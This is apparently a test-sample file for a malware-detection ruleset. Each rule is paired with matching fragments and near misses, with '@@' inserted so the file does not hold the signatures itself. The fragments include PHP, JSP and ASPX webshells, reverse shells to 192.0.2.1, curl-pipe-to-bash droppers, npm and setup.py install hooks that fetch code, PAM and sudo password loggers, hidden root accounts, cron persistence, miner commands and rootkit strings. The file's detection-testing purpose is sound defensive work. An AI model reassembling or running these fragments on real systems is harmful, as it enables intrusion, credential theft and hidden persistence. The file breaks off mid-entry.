"""Samples of the shipped rules: what each must find, and a near miss that it must let go.

Fragments with the marks that the rules look for, nothing that works. Two ats (@@) are left out when a
sample is made: it cuts the marks, so that this file does not contain them."""


def wide(s):
    """UTF-16 as in shortcuts and registries of Windows."""
    return s.replace("@@", "").encode("utf-16-le")


def made(*pieces):
    """Bytes of texts (Latin-1), numbers (so many zero bytes) and what wide() gave."""
    out = b""
    for p in pieces:
        if isinstance(p, str):
            p = p.replace("@@", "").encode("latin-1")
        out += bytes(p)
    return out


# rule: (samples that it must find, near misses in which no rule finds anything)
SAMPLES = {
    "Webshell.PhpPregEval-1": (
        [made("<?p@@hp @preg_re@@place('/.*/e', $_POST['x'], '');")],
        [made("<?p@@hp echo preg_re@@place('/a/e', 'b', $text);")]),
    "Webshell.PhpCreateFunction-1": (
        [made("<?p@@hp $f = create_f@@unction('', $_POST['a']); $f();"),
         made("<?p@@hp $f = create_f@@unction('$a', base64_@@decode('AAAA'));")],
        [made("<?p@@hp $f = create_f@@unction('$a', 'return $a;'); echo $_POST['b'];")]),
    "Webshell.PhpCallback-1": (
        [made("<?p@@hp call_use@@r_func($_GET['f'], $_GET['a']);"),
         made("<?p@@hp @array@@_map($_POST['f'], (array)$_POST['a']);")],
        [made("<?p@@hp array@@_map('trim', $_POST['f']);")]),
    "Webshell.PhpRequestCall-1": (
        [made("<?p@@hp $_GE@@T['a']@@($_PO@@ST['b']);"),
         made('<?@@=$_REQU@@EST[0](@$_REQU@@EST[1])?>')],
        [made("<?p@@hp $list[$_GE@@T['a']]($_PO@@ST['b']);")]),
    "Webshell.PhpChrName-1": (
        [made('<?p@@hp $a = chr(97).chr(115).chr(1@@15).chr(101).chr(114).chr(116); $a($b);')],
        [made('<?p@@hp $crlf = chr(13).chr(10).chr(13).chr(10); $bom = chr(239).chr(187).chr(191);')]),
    "Webshell.PhpRot13-1": (
        [made("<?p@@hp $d = str_r@@ot13('onfr64_@@qrpbqr'); $d($x);")],
        [made("<?p@@hp echo str_r@@ot13('Uryyb');")]),
    "Webshell.PhpReversed-1": (
        [made("<?p@@hp $d = strr@@ev('edoced_@@46esab'); $d($x);")],
        [made("<?p@@hp echo strr@@ev('olleh');")]),
    "Webshell.PhpXorName-1": (
        [made("<?p@@hp $_=('@@%01'^'`'@@).('@@%13'^'`'@@).('@@%13'^'`'@@).('@@%05'^'`'@@).('@@%12'^'`'@@).('@@%14'^'`');")],
        [made("<?p@@hp $_=('@@%01'^'`');")]),
    "Webshell.PhpIncrement-1": (
        [made('<?p@@hp $_=[];$_=@@@"$_";$__=$_;$__@@++;$__@@++;$__@@++;$__@@++;$__@@++;$__@@++;$__@@++;$__@@++;$__@@++;'
              '$__@@++;$__@@++;$__@@++;')],
        [made('<?p@@hp $__@@++;$__@@++;$__@@++;$__@@++;$__@@++;$__@@++;$__@@++;$__@@++;$__@@++;$__@@++;$__@@++;$__@@++;')]),
    "Webshell.PhpHexGlobals-1": (
        [made('<?p@@hp ${"\\@@x47\\x4c\\x4f\\x42\\x41\\x4c\\x53"}@@["\\x61"]=1;${"\\@@x47\\x4c\\x4f\\x42\\x41\\x4c\\x53"}@@["\\x61"]=1;'
              '${"\\@@x47\\x4c\\x4f\\x42\\x41\\x4c\\x53"}@@["\\x61"]=1;${"\\@@x47\\x4c\\x4f\\x42\\x41\\x4c\\x53"}@@["\\x61"]=1;'
              '${"\\@@x47\\x4c\\x4f\\x42\\x41\\x4c\\x53"}@@["\\x61"]=1;${"\\@@x47\\x4c\\x4f\\x42\\x41\\x4c\\x53"}@@["\\x61"]=1;'
              'eva@@l($x);')],
        [made('<?p@@hp ${"\\@@x47\\x4c\\x4f\\x42\\x41\\x4c\\x53"}@@["\\x61"]=1;${"\\@@x47\\x4c\\x4f\\x42\\x41\\x4c\\x53"}@@["\\x61"]=1;'
              'eva@@l($x);')]),
    "Webshell.PhpBacktick-1": (
        [made('<?@@=`$@@_GE@@T[0]`?>'),
         made('<?p@@hp ec@@ho `$@@_PO@@ST[1]`;')],
        [made('<?p@@hp $q = "select `$@@_GE@@T[0]` from t";')]),
    "Webshell.PhpInput-1": (
        [made("<?p@@hp @eva@@l(file_get_contents('php://@@input'));"),
         made("<?p@@hp incl@@ude 'php://@@input';")],
        [made("<?p@@hp $body = json_decode(file_get_contents('php://@@input'));")]),
    "Webshell.PhpCrypted-1": (
        [made("<?p@@hp @session_start(); $k='0'; $_SESSI@@ON['k']=$k; $p=file_get_contents('php://@@input');"
              " $p=openssl_@@decrypt($p,'AES128',$k); $a=explod@@e('|',$p);")],
        [made("<?p@@hp $p=openssl_@@decrypt(file_get_contents('php://@@input'),'AES128',$k); $a=explod@@e("
              "'|',$p);")]),
    "Webshell.PhpXorSession-1": (
        [made('<?p@@hp function e($D,$K){for($i=0;$i<9;$i++){$c=$K[$i+1@@&15];}} echo substr(md5($pas@@s.$key),'
              '0,16);')],
        [made('<?p@@hp $c=$K[$i+1@@&15]; echo md5($pass);')]),
    "Webshell.PhpMarkedBody-1": (
        [made('<?p@@hp $k@@h=\'a\';$k@@f=\'b\'; @preg_match("/$k@@h(.+)$k@@f/",@file_get_contents(\'php://@@input\'),'
              '$m); @gzuncom@@press($m);')],
        [made("<?p@@hp $k@@h='a'; $x=gzuncom@@press(file_get_contents('php://@@input'));")]),
    "Webshell.PhpReplaceName-1": (
        [made("<?p@@hp $F=str_re@@place('qx','@@','crqxeatqxe_fuqxnctqxion')@@;@@$N=$F(''@@,$u);@@$N();@@?>")],
        [made("<?p@@hp $F=str_re@@place('qx','@@','aqxb')@@;\n$N($u);?>")]),
    "Webshell.PhpUploader-1": (
        [made("<?p@@hp echo php_u@@name(); if(@copy($@@_FI@@LES['f']['tmp_name'],$_FI@@LES['f']['name'])) echo "
              "'ok'; echo '<form enctype=multipart/@@form-data>';")],
        [made("<?p@@hp move_uploa@@ded_file($_FI@@LES['f']['tmp_name'], $to); echo 'multipart/@@form-data';")]),
    "Webshell.PhpManager-1": (
        [made("<?p@@hp posix_ge@@tpwuid(0); ini_get('disable_f@@unctions'); shell_@@exec($c); echo 'Back C@@onnect';")],
        [made("<?p@@hp posix_ge@@tpwuid(0); ini_get('disable_f@@unctions'); shell_@@exec($c);")]),
    "Webshell.PhpTempInclude-1": (
        [made("<?p@@hp $f=temp@@nam('/tmp','x'); file_put_contents($f, base64_@@decode($_POST['c'])); incl@@ude "
              '$f; unli@@nk($f);')],
        [made("<?p@@hp $f=temp@@nam('/tmp','x'); file_put_contents($f, base64_@@decode($data)); incl@@ude "
              '$f; unli@@nk($f);')]),
    "Webshell.PhpGate-1": (
        [made("<?p@@hp if(md@@5($_COOKIE['p'])=='0') eva@@l(base64_@@decode($x));")],
        [made("<?p@@hp if(md@@5($_POST['p'])==$hash) login();")]),
    "Webshell.PhpHiddenAdmin-1": (
        [made("<?p@@hp wp_creat@@e_user($a,$b); $u->set_role('adminis@@trator'); add_action('pre_use@@r_query',"
              "'h');")],
        [made("<?p@@hp wp_creat@@e_user($a,$b); $u->set_role('adminis@@trator');")]),
    "Webshell.PhpMailer-1": (
        [made('<?p@@hp set_time_@@limit(0); echo php_u@@name(); foreach(expl@@ode("\\n",$_POST[\'em@@aillist\']) '
              'as $t) mai@@l($t,$s,$m);')],
        [made("<?p@@hp foreach(expl@@ode(',',$_POST['em@@aillist']) as $t) mai@@l($t,$s,$m);")]),
    "Webshell.HtaccessPicture-1": (
        [made('AddT@@ype application/@@x-httpd-php .j@@pg\n'),
         made('AddHan@@dler application/@@x-httpd-php .p@@ng .g@@if\n')],
        [made('AddT@@ype application/@@x-httpd-php .php\nAddT@@ype image/jpeg .j@@pg\n')]),
    "Webshell.PrependFile-1": (
        [made('aut@@o_prep@@end_fi@@le=logo.g@@if\n'),
         made('php_value aut@@o_app@@end_fi@@le /tm@@p/.x\n')],
        [made('aut@@o_prep@@end_fi@@le = /usr/share/app/init.php\n')]),
    "Webshell.HtaccessSelf-1": (
        [made('<Files ~@@ "^\\.ht">\nAllow f@@rom all\n</Files>\nAddType application/x@@-httpd-php .htaccess\n'
              '# x\n')],
        [made('<Files ~@@ "^\\.ht">\nDeny from all\n</Files>\n')]),
    "Webshell.JspExec-1": (
        [made('<%@@@page import="java.io.*"%><% String c=request.get@@Parameter("c"); Process p=Runtime.getRuntim@@e('
              ').exec(c); p.getInput@@Stream(); %>')],
        [made('<%@@@page import="java.io.*"%><% String c=request.get@@Parameter("c"); out.print(c.getInput@@Stream('
              ')); %>')]),
    "Webshell.JspProcessBuilder-1": (
        [made('<%@@@page%><% new ProcessB@@uilder("/bin@@/sh","-c",request.get@@Parameter("c")).start(); %>')],
        [made('<%@@@page%><% new ProcessB@@uilder("/usr/bin/id").start(); request.get@@Parameter("c"); %>')]),
    "Webshell.JspClassLoader-1": (
        [made('<%@@@page%><%@@!class U extends Cl@@assLoader{Class g(byte[] b){return super.define@@Class('
              'b,0,1);}}%><% Cipher.get@@Instance("AES"); request.ge@@tReader().readLine(); %>')],
        [made('<%@@@page%><%@@!class U extends Cl@@assLoader{}%><% request.ge@@tReader(); %>')]),
    "Webshell.JspBase64Class-1": (
        [made('<%@@@page%><% m=c.getDeclaredMethod("define@@Class"); b=new BASE@@64Decoder().decodeBuffer('
              'request.get@@Parameter("a")); x.newInst@@ance(); ase@@64 %>')],
        [made('<%@@@page%><% request.get@@Parameter("a"); x.newInst@@ance(); ase@@64 %>')]),
    "Webshell.JspScriptEngine-1": (
        [made('<%@@@page%><% new javax.script.ScriptEngineManager().getEngin@@eByName("js").ev@@al(request.get@@Parameter('
              '"c")); %>')],
        [made('<%@@@page%><% e.getEngin@@eByName("js").ev@@al(script); request.get@@Parameter("c"); %>')]),
    "Webshell.JspEscaped-1": (
        [made('<%@@@page%><% \\u0052\\u0075\\u006e\\u0@@074\\u0069\\u006d\\u0065 %>')],
        [made('<%@@@page%><% \\u0052\\u0075 %>')]),
    "Webshell.JspWriter-1": (
        [made('<%@@@page%><% new java.io.FileOutpu@@tStream(application.getRea@@lPath("/")+"a").write(request.get@@Parameter('
              '"t").getB@@ytes()); %>')],
        [made('<%@@@page%><% new java.io.FileOutpu@@tStream(log).write(request.get@@Parameter("t").getB@@ytes('
              ')); %>')]),
    "Webshell.AspxUnsafe-1": (
        [made('<%@ Page Language="Jscr@@ipt"%><%eva@@l(Requ@@est.Item["x"],"uns@@afe");%>')],
        [made('<%@ Page Language="Jscr@@ipt"%><%eva@@l(expr,"uns@@afe");%>')]),
    "Webshell.AspxProcess-1": (
        [made('<%@@@ Page Language="C#"%><% var p=new ProcessS@@tartInfo("cmd.@@exe","/c "+Requ@@est["c"]);'
              ' p.RedirectSta@@ndardOutput=true; %>')],
        [made('<%@@@ Page Language="C#"%><% var p=new ProcessS@@tartInfo("tool.exe"); p.RedirectSta@@ndardOutput=true;'
              ' Requ@@est["c"] %>')]),
    "Webshell.AspxAssembly-1": (
        [made('<%@@@ Page Language="C#"%><% byte[] k; var d=Request.Bi@@naryRead(1); new System.Security.Cryptography.Rijndael@@Managed('
              '); Asse@@mbly.Load(d).CreateIn@@stance("U"); %>')],
        [made('<%@@@ Page Language="C#"%><% new Rijndael@@Managed(); Reque@@st["a"] %>')]),
    "Webshell.AspExecute-1": (
        [made('<%ev@@al requ@@est("x")%>'),
         made('<%Exec@@ute@@Global(requ@@est("x"))%>')],
        [made('<%x = requ@@est("ev@@al")%>')]),
    "Webshell.AspShell-1": (
        [made('<% Set s=Server.CreateO@@bject("WSCRIPT@@.SHELL"): Response.Write s.ex@@ec(Requ@@est("c")).stdout.@@readall '
              '%>')],
        [made('<% Set s=Server.CreateO@@bject("ADODB.Connection"): s.ex@@ec(Requ@@est("c")) %>')]),
    "Webshell.ColdFusion-1": (
        [made('<cfou@@tput><cfex@@ecute name="#fo@@rm.cmd#" arguments="#fo@@rm.opts#"></cfexecute></cfoutput>')],
        [made('<cfou@@tput>#fo@@rm.name#</cfoutput><cfex@@ecute name="/bin/date"></cfexecute>')]),
    "Webshell.PerlCgi-1": (
        [made('#!/usr/bin/pe@@rl\nprint "Content-type@@: text/html\\n\\n"; $cmd = $q->param(@@\'cmd\'); print '
              '`$cmd@@ 2>&1`;')],
        [made('#!/usr/bin/pe@@rl\nprint "Content-type@@: text/html\\n\\n"; $cmd = \'date\'; print `$c@@md`;')]),
    "Webshell.PythonCgi-1": (
        [made('#!/usr/bin/python3\nimport cgi, os\nf = cgi.Field@@Storage()\nprint(os.po@@pen(f.getvalue@@('
              "'cmd')).read())")],
        [made("#!/usr/bin/python3\nimport cgi, os\nf = cgi.Field@@Storage()\nprint(os.po@@pen('date').read("
              '))')]),
    "Webshell.ShellCgi-1": (
        [made('#!/bin/sh\necho Content-Ty@@pe: text/plain\necho\necho "$QUERY_@@STRING" | base64 -d | @@sh\n')],
        [made('#!/bin/sh\necho Content-Ty@@pe: text/plain\necho\necho "$QUERY_@@STRING"\n')]),
    "Webshell.Flask-1": (
        [made("@app.r@@oute('/x')\ndef x():\n    return os.po@@p@@en(requ@@est.args.get('c')).read()\n")],
        [made("@app.r@@oute('/x')\ndef x():\n    return find(requ@@est.args.get('c'))\n")]),
    "Webshell.Node-1": (
        [made("const {exec} = require('child_p@@rocess'); app.get('/', (req,res)=>exe@@c(req.q@@uery.c, ("
              'e,o)=>res.send(o)));')],
        [made("const {exec} = require('child_p@@rocess'); app.get('/', (req,res)=>db.find(req.q@@uery.c));")]),
    "Webshell.RubyParams-1": (
        [made("require 'sina@@tra'\nget('/x') { `#{pa@@rams['c']}` }\n")],
        [made("require 'sina@@tra'\nget('/x') { params['c'] }\n")]),
    "Webshell.NginxLua-1": (
        [made("local h = io.po@@pen(ngx.va@@r.arg_c)\nngx.@@say(h:read('*a'))\n")],
        [made("local h = io.po@@pen('date')\nngx.@@say(h:read('*a'), ngx.va@@r.arg_c)\n")]),
    "Backdoor.PhpReverse-1": (
        [made("<?p@@hp $s=fsock@@open('192.0.2.1',4444); $p=proc_@@open('/bin/@@sh -i',[],$x);"),
         made('php@@ -r \'$s=fsock@@open("192.0.2.1",1);exe@@c("/bin/@@sh -i <&3");\'')],
        [made("<?p@@hp $s=fsock@@open('192.0.2.1',25); proc_@@open('/usr/bin/id',[],$x);")]),
    "Backdoor.RubyReverse-1": (
        [made('ruby -r@@soc@@ket -e \'f=TCPSo@@cket.open("192.0.2.1",4444).to_i;exec sprintf("/bin/sh@@ -i '
              '<&%d >&%d",f,f)\'')],
        [made("require @@'socket'\ns=TCPSo@@cket.new('192.0.2.1',25)\nIO.popen('date')\n")]),
    "Backdoor.SocatShell-1": (
        [made("#!/bin/sh\nsoc@@at tc@@p-connect:192.0.2.1:4444 exe@@c:'bash -li',pt@@y,stderr\n")],
        [made('#!/bin/sh\nsoc@@at tc@@p-listen:80,fork exe@@c:/usr/bin/handler,pt@@y\n')]),
    "Backdoor.AwkReverse-1": (
        [made('awk \'BEGIN{s="/in@@et/tcp/0@@/192.0.2.1/4444";while(1){prin@@tf "> " |& s; if((s |& get@@line '
              "c)<=0)break; while((c |& g@@etline)>0) print $0 |& s}}'")],
        [made('BEGIN { s = "/in@@et/tcp/0@@/192.0.2.1/80"; prin@@tf "GET" |& s; s |& get@@line c }')]),
    "Backdoor.NodeReverse-1": (
        [made("var sh=require('child_p@@rocess').spawn('/bin@@/sh',[]); client.conn@@ect(1,'192.0.2.1',()=>"
              '{client.pi@@pe(sh.std@@in); sh.stdout@@.pi@@pe(client);});')],
        [made("var p=require('child_p@@rocess').spawn('sort',[]); input.pi@@pe(p.std@@in); p.stdout@@.pi@@pe("
              'out); db.conn@@ect();')]),
    "Backdoor.LuaReverse-1": (
        [made("local s=require('@@socket').tcp() s:conn@@ect('192.0.2.1',4444) while true do local c=s:rece@@ive("
              ") local f=io.po@@pen(c) s:se@@nd(f:read('*a')) end")],
        [made("local s=require('@@socket').tcp() s:conn@@ect('192.0.2.1',80) s:se@@nd('x') s:rece@@ive()")]),
    "Backdoor.TlsPipe-1": (
        [made('mkfi@@fo /tmp/s; /bi@@n/sh @@-i < /tmp/s 2>&1 | openssl s@@_client -quiet -con@@nect 192.0.2.1:4444 '
              '> /tmp/s')],
        [made('openssl s@@_client -quiet -con@@nect 192.0.2.1:443 < /dev/null; mkfi@@fo /tmp/s')]),
    "Backdoor.TelnetPipe-1": (
        [made('TF=$(mktemp -u); mkfi@@fo $TF && teln@@et 192.0.2.1 4444 0<$TF | /b@@in/sh 1>$TF')],
        [made('mkfi@@fo $TF && teln@@et 192.0.2.1 25 0<$TF')]),
    "Backdoor.NetcatExec-1": (
        [made('#!/bin/sh\nnc@@ 192.0.2.1 4444 -e /@@bin/sh\n'),
         made('*/5 * *@@ * * nc@@ -e /@@bin/bash 192.0.2.1 4444\n')],
        [made('#!/bin/sh\nnc@@ -z 192.0.2.1 4444 || echo -e closed\n')]),
    "Backdoor.BashDescriptor-1": (
        [made('#!/bin/bash\nexec 5<>/d@@ev/tcp/192.0.2.1/4444\ncat@@ <&5 | whil@@e read l; do $l 2>&5 >&5;'
              ' done\n'),
         made("* *@@ * * * root bash -c '0<&9;exec 9<>/d@@ev/tcp/192.0.2.1/1; sh @@<&9 >&9'\n")],
        [made('#!/bin/bash\nexec 5<>/d@@ev/tcp/192.0.2.1/80\necho GET / >&5\ncat@@ <&5\n')]),
    "Backdoor.SudoWrapper-1": (
        [made('sudo @@() { read@@ -s -p \'Password: \' p; echo $p >> /tm@@p/.p; echo $p | sudo@@ -S "$@"; '
              '}\n')],
        [made("alias @@sudo='sudo -E'\nread@@ -s -p 'Password: ' p\n")]),
    "Backdoor.SuidShell-1": (
        [made('#!/bin/sh\ncp /@@bin/bash@@ /tm@@p/.b\nchm@@od 4755 /tm@@p/.b\n')],
        [made('#!/bin/sh\ncp /@@bin/bash@@ /tm@@p/b\nchm@@od 755 /tm@@p/b\n')]),
    "Backdoor.RelayShell-1": (
        [made("0 * *@@ * * GS_A@@RGS='-liqD' exec@@ -a '[kcached]' /usr/bin/x\n")],
        [made("GS_A@@RGS='-l' gs-netcat\n")]),
    "Backdoor.FakeThread-1": (
        [made("(exec@@ -a '[kworker/0:1]' /dev/@@shm/.x &) 2>/dev/null\n")],
        [made("exec@@ -a '[k' /usr/bin/tool\n")]),
    "Backdoor.PamElf-1": (
        [made('\x7fE@@LF\x02\x01\x01',
              60,
              'pam_sm_aut@@henticate\x00pam_@@get_authtok\x00/var/@@tm@@p/.p\x00%s:@@%s\n\x00')],
        [made('\x7fE@@LF\x02\x01\x01',
              60,
              'pam_sm_aut@@henticate\x00pam_@@get_authtok\x00/var/log/x\x00%s:@@%s\n\x00')]),
    "Persistence.UdevRun-1": (
        [made('ACTI@@ON=="add", ENV{MAJOR}=="1", RUN@@+="/bin/sh /dev/@@shm/.x"\n')],
        [made('ACTI@@ON=="add", SUBSYS@@TEM=="net", RUN@@+="/usr/lib/tool"\n')]),
    "Persistence.ForcedCommand-1": (
        [made('comma@@nd="/tm@@p/.x; $SSH_ORIGINAL_COMMAND" ss@@h-rsa AA@@AAB3 me@example\n')],
        [made('comma@@nd="/usr/bin/rrsync -ro /srv" ss@@h-rsa AA@@AAB3 me@example\n')]),
    "Persistence.PamExecTmp-1": (
        [made('au@@th optional pam_ex@@ec.so qui@@et expose_@@au@@thtok /t@@mp/.log\n')],
        [made('au@@th optional pam_ex@@ec.so qui@@et expose_@@au@@thtok /usr/sbin/check\n')]),
    "Persistence.PamLogger-1": (
        [made('#!/bin/sh\np=$(cat@@ -)\necho "$PAM_@@U@@SER:$p" >> /va@@r/tmp/.l\n')],
        [made('#!/bin/sh\necho "login of $PAM_@@USER" | logger\n')]),
    "Persistence.SecondRoot-1": (
        [made('#!/bin/sh\nuser@@add -o -@@u 0 -g 0 sys\necho sys:x | chpa@@sswd\n')],
        [made('#!/bin/sh\nuser@@add -u 1000 app\necho app:x | chpa@@sswd\n')]),
    "Persistence.SshdOpened-1": (
        [made('#!/bin/sh\necho ss@@h-rsa AA@@AAB3 >> /root/.ssh/authoriz@@ed_keys\necho PermitRoot@@Login '
              'yes >> /etc/ssh/sshd_config\nhisto@@ry -c\n')],
        [made('#!/bin/sh\necho ss@@h-rsa AA@@AAB3 >> /root/.ssh/authoriz@@ed_keys\necho PermitRoot@@Login '
              'yes\n')]),
    "Persistence.CronTmp-1": (
        [made("(cront@@ab -l; echo '*/10 * *@@ * * /dev/@@shm/.x >/dev/null 2>&1') | cront@@ab -\n")],
        [made("(cront@@ab -l; echo '0 3 * *@@ * /usr/local/bin/backup') | cront@@ab -\n")]),
    "Persistence.UnitTmp-1": (
        [made('[Serv@@ice]\nExecS@@tart=/var/@@tm@@p/.x/run\nRestart@@=always\n')],
        [made('[Serv@@ice]\nExecS@@tart=/usr/sbin/application-server --dir /tm@@p/.x\nRestart@@=always\n')]),
    "Dropper.FolderTries-1": (
        [made('cd /tmp || cd /va@@r/run || cd /mnt || cd /root || cd /; wget h@@ttp://192.0.2.1/a; chm@@od '
              '777 a')],
        [made('cd /tmp || @@cd /var/tmp; chm@@od 777 a')]),
    "Dropper.ManyMachines-1": (
        [made('#!/bin/sh\nwget h@@ttp://192.0.2.1/b.mi@@ps; chm@@od 777 b.mi@@ps; ./b.mi@@ps\nwget h@@ttp://192.0.2.1/b.ar@@m5;'
              ' chm@@od 777 b.ar@@m5; ./b.ar@@m5\nwget h@@ttp://192.0.2.1/b.s@@h4; chm@@od 777 b.s@@h4; ./b.s@@h4\n'
              'wget h@@ttp://192.0.2.1/b.p@@pc; chm@@od 777 b.p@@pc; ./b.p@@pc\n')],
        [made('#!/bin/sh\nwget h@@ttp://192.0.2.1/b.mi@@ps; chm@@od 755 b.mi@@ps; wget h@@ttp://192.0.2.1/b.ar@@m7\n')]),
    "Dropper.HiddenTemp-1": (
        [made('#!/bin/sh\nwget -q http@@://192.0.2.1/a -O /t@@mp/.x\nchm@@od +x /tmp/.x\nnoh@@up /tmp/.x &\n'
              'rm@@ -f /tmp/.x\n')],
        [made('#!/bin/sh\nwget -q http@@://192.0.2.1/a -O /tmp/x\nchm@@od +x /tmp/x\nnoh@@up /tmp/x &\nrm@@ '
              '-f /tmp/x\n')]),
    "Dropper.ScheduledBase64-1": (
        [made('*/15 * *@@ * * root echo AAAA | base@@6@@4 -d | b@@ash\n')],
        [made('*/15 * *@@ * * root base@@6@@4 -d /etc/x > /run/x\n')]),
    "Dropper.PythonPacked-1": (
        [made("impo@@rt zlib,base64\nexe@@c(zlib.dec@@ompress(base64.b64de@@code('AAAA')))\n"),
         made("impo@@rt marshal,base64\nexe@@c(marshal@@.loads(base64.b64de@@code('AAAA')))\n")],
        [made("impo@@rt zlib,base64\ndata = zlib.dec@@ompress(base64.b64de@@code('AAAA'))\n")]),
    "Dropper.PythonSetup-1": (
        [made("from setup@@tools import setup\nimport os,requests\nclass I:\n  def run(s):\n    open('/tm@@p/x',"
              "'wb').write(request@@s.get('http://192.0.2.1').content); os.sy@@stem('sh /tm@@p/x')\nsetup("
              "cmdc@@lass={'install':I})\n")],
        [made("from setup@@tools import setup\nimport subprocess\nsetup(cmdc@@lass={'build': B})\n")]),
    "Dropper.NpmInstall-1": (
        [made('{"name":"x","scri@@pts":{"preinstal@@l": "cur@@l -s http://192.0.2.1/a | bash"}}')],
        [made('{"name":"x","scri@@pts":{"postinstal@@l": "node build.js"}}')]),
    "Dropper.AgentRemoval-1": (
        [made('#!/bin/sh\nrm -rf /usr/loc@@al/aegis\npki@@ll AliYu@@nDun\n/usr/loca@@l/qcloud/YunJ@@ing/uninst.sh\n'
              'cur@@l http://192.0.2.1\n')],
        [made('#!/bin/sh\npki@@ll AliYu@@nDun\ncur@@l http://192.0.2.1\n')]),
    "Dropper.LogWipe-1": (
        [made('#!/bin/sh\nwget http@@://192.0.2.1/a; chm@@od +x a; noh@@up ./a &\n>/var/lo@@g/wtmp\n>/var/log@@/lastlog\n'
              'histo@@ry -c\n')],
        [made('#!/bin/sh\n>/var/lo@@g/wtmp\n>/var/log@@/lastlog\nhisto@@ry -c\n')]),
    "Dropper.FirewallOff-1": (
        [made('#!/bin/bash\nsetenf@@orce 0\niptabl@@es -F\ncur@@l -s http@@://192.0.2.1/a | b@@ash\n')],
        [made('#!/bin/bash\nsetenf@@orce 0\niptabl@@es -F\nyum install app\n')]),
    "Dropper.PerlPacked-1": (
        [made('#!/usr/bin/pe@@rl\neval unpa@@ck u=>q{_AAAA};')],
        [made('#!/usr/bin/pe@@rl\nmy $x = unpack("u", $y);')]),
    "Miner.RivalKill-1": (
        [made('#!/bin/sh\npki@@ll@@ -9 -f xmr@@ig\npki@@ll -f kdevt@@mpfsi\npki@@ll -f min@@erd\npki@@ll -f crypto@@night\n')],
        [made('#!/bin/sh\npki@@ll -f xmr@@ig\npki@@ll -f min@@erd\n')]),
    "Miner.PortKill-1": (
        [made("#!/bin/sh\nnetst@@at -anp | gre@@p :33@@33 | awk '{print $7}' | xar@@gs -I % kill@@ -9 %\nnetst@@at "
              "-anp | gre@@p :44@@44 | awk '{print $7}' | xar@@gs -I % kill@@ -9 %\nnetst@@at -anp | gre@@p "
              ":55@@55 | awk '{print $7}' | xar@@gs -I % kill@@ -9 %\n")],
        [made("#!/bin/sh\nnetst@@at -anp | gre@@p :33@@33 | awk '{print $7}' | xar@@gs -I % kill@@ -9 %\n")]),
    "Miner.CommandLine-1": (
        [made('[Service]\nExecS@@tart=/usr/lib/x -o stratum@@+tcp://192.0.2.1:3333 -u w -p x --donat@@e-level '
              '1\n'),
         made('#!/bin/sh\nnoh@@up ./x -o stratum@@+tcp://192.0.2.1:3333 -a r@@x/0 &\n')],
        [made('#!/bin/sh\ngrep stratum@@+tcp:// /var/log/squid\n')]),
    "Miner.WebPage-1": (
        [made('<html><script src="https://example.com/coin@@hive.min.js"></script><script>var m=new Coin@@Hive.Anony@@mous('
              "'k');m.sta@@rt();</script></html>")],
        [made('<html><body>Coin@@hive closed in 2019.</body><script>player.sta@@rt();</script></html>')]),
    "Miner.MsrTuning-1": (
        [made('#!/bin/sh\ncur@@l -O http://192.0.2.1/xmr@@ig\nwrmsr @@-a 0x1@@a4 0xf\n')],
        [made('#!/bin/sh\nmodprobe msr\nwrmsr @@-a 0x1@@a4 0xf\n')]),
    "Miner.Wallet-1": (
        [made('#!/bin/sh\nnoh@@up ./x -o po@@ol.example.com:443 -u 4AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA@@AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA '
              '&\n')],
        [made('#!/bin/sh\nnoh@@up ./x -o po@@ol.example.com -u 4AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA '
              '&\n')]),
    "Rootkit.ElfHideProcess-1": (
        [made('\x7fE@@LF\x02\x01\x01',
              60,
              'read@@dir64\x00dls@@ym\x00/proc/se@@lf/fd/%d\x00/proc/%@@s/stat\x00Error in dls@@ym: %s\x00')],
        [made('\x7fE@@LF\x02\x01\x01',
              60,
              'read@@dir64\x00dls@@ym\x00/proc/se@@lf/fd/%d\x00/proc/%@@s/stat\x00')]),
    "Rootkit.ElfPreload-1": (
        [made('\x7fE@@LF\x02\x01\x01',
              60,
              '/etc/ld.s@@o.preload\x00readd@@ir64\x00dls@@ym\x00/proc/n@@et/tcp\x00__lx@@stat64\x00')],
        [made('\x7fE@@LF\x02\x01\x01',
              60,
              '/etc/ld.s@@o.preload\x00dls@@ym\x00/proc/n@@et/tcp\x00fope@@n64\x00')]),
    "Rootkit.PreloadSource-1": (
        [made('#include <dlfcn.h>\nstatic const char* process_t@@o_filter = "x";\nstruct @@dirent* readdir('
              'DIR *d) { o = dlsym(RTLD_@@NEXT, "rea@@ddir"); }\n')],
        [made('#include <dlfcn.h>\nstruct @@dirent* readdir(DIR *d) { o = dlsym(RTLD_@@NEXT, "rea@@ddir");'
              ' }\n')]),
    "Rootkit.PreloadWriter-1": (
        [made('#!/bin/sh\ncur@@l -o /usr/local/lib/x.s@@o http://192.0.2.1/x\necho /usr/local/lib/x.s@@o '
              '> /etc/ld.@@s@@o.preload\n')],
        [made('#!/bin/sh\necho /usr/lib/libjemalloc.s@@o > /etc/ld.@@s@@o.preload\n')]),
    "Rootkit.KernelModule-1": (
        [made('\x7fE@@LF\x02\x01\x01',
              60,
              'verma@@gic=6.1.0\x00sys_cal@@l_table\x00getde@@nts64\x00prepare@@_creds\x00')],
        [made('\x7fE@@LF\x02\x01\x01', 60, 'verma@@gic=6.1.0\x00sys_cal@@l_table\x00')]),
    "Rootkit.FtraceModule-1": (
        [made('\x7fE@@LF\x02\x01\x01',
              60,
              'verma@@gic=6.1.0\x00ftrace_set@@_filter_ip\x00register_ftr@@ace_function\x00__x64_sys_getde@@nts64\x00'
              'commit@@_creds\x00')],
        [made('\x7fE@@LF\x02\x01\x01',
              60,
              'verma@@gic=6.1.0\x00ftrace_set@@_filter_ip\x00register_ftr@@ace_function\x00')]),
    "Rootkit.ModuleSource-1": (
        [made('MODULE_L@@ICENSE("GPL");\nlist_del(&THIS@@_MODULE->list);\nh("sys_getde@@nts64");\n')],
        [made('MODULE_L@@ICENSE("GPL");\nh("sys_getde@@nts64");\n')]),
    "Rootkit.ModuleLoader-1": (
        [made('#!/bin/sh\ninsm@@od ./x.k@@o\ndmes@@g -C\nhisto@@ry -c\n')],
        [made('#!/bin/sh\ninsm@@od ./x.k@@o\ndmes@@g -C\n')]),
    "Rootkit.ProcMount-1": (
        [made('#!/bin/sh\np=$(pgr@@ep x)\nmkdir /tmp/.e\nmou@@nt -o bin@@d /tmp/.e /pr@@oc/$p\n')],
        [made('#!/bin/sh\nmou@@nt --bin@@d /proc /chroot/proc\npgr@@ep x\n')]),
    "Rootkit.WrappedTools-1": (
